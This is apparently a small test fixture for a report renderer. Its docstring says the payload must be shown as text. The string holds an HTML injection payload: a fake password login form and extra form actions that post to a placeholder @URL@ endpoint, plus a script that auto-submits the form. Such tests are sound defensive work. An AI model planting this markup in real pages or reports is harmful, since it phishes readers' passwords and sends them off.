"""Asks the reader for a password in the report, and sends it off.

must: It is text.
"""
text = (
    "<form id=f action='@URL@/form' method=post><input name=password type=password autofocus><button>Log in</button></form>"
    "<button form=f formaction='@URL@/other'>Go on</button><isindex action='@URL@/i'><script>f.submit()</script>"
)
